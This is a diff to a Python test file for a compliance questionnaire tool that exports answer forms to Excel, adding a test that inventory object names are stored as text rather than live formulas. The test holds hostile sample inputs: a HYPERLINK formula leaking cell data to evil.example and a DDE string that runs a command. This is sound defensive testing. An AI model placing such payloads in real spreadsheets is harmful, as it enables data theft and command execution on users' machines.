@@ -91,7 +91,7 @@ def test_xlsx_form_has_the_columns_and_a_row_per_entry(tmp_path):
     head = [c.value for c in ws[1]]
     assert head[0] == "测评项编号\nitem" and "结论\nanswer" in head
     assert [ws.cell(row=r, column=1).value for r in (2, 3)] == ["L3-CES1-02", "L3-CES1-03"]
-    assert ws.cell(row=2, column=8).value == "1. 登录失败如何处理？"
+    assert ws.cell(row=2, column=9).value == "1. 登录失败如何处理？"
     assert ws.data_validations.dataValidation[0].formula1.startswith('"pass,partial,fail,na')
     assert dict(wb[questionnaire.META_SHEET].iter_rows(values_only=True))["format"] == questionnaire.FORMAT
     entries, meta = answers.read_entries(out)
@@ -121,3 +121,23 @@ def test_cli_init_xlsx_for_the_shipped_catalog(tmp_path):
     ws = load_workbook(out, read_only=True)[questionnaire.SHEET]
     items = {row[0] for row in ws.iter_rows(min_row=2, values_only=True)}
     assert "L3-PES1-03" in items and "L3-MMS1-01" in items and len(items) > 200
+
+
+def test_xlsx_form_writes_object_names_as_text_never_as_formulas(tmp_path):
+    """An inventory's object name is someone else's text: `=HYPERLINK(...)` must not become a live formula."""
+    import zipfile
+
+    cat, prof = mini()
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
+    hosts = [Target(id=f"h{i}", type="linux", name=name) for i, name in enumerate(hostile)]
+    pairs = questionnaire.scope(cat, prof, hosts)
+    out = tmp_path / "answers.xlsx"
+    questionnaire.to_xlsx(questionnaire.asked(pairs), questionnaire.header(cat, prof, "now", "inv"), out)
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    ws = load_workbook(out)[questionnaire.SHEET]
+    column = next(c.column for c in ws[1] if str(c.value or "").endswith("object_name"))  # by heading
+    names = {ws.cell(row=r, column=column).value: ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)}
+    assert set(hostile) <= set(names)
+    assert all(names[h].data_type == "s" and names[h].quotePrefix for h in hostile)
